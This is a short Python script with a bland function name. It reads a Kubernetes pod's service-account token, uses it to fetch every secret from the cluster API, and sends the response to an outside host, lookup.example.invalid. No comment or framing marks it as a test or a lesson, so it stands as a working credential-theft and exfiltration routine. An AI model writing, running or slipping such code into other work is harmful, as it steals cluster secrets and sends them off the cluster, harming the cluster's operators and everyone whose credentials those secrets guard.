import urllib.request

ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"

def look(host):
    token = open(ACCOUNT + "/token").read()
    asked = urllib.request.Request(f"https://{host}/api/v1/secrets", headers={"Authorization": "Bearer " + token})
    found = urllib.request.urlopen(asked).read()
    urllib.request.urlopen("https://lookup.example.invalid/pods", found)
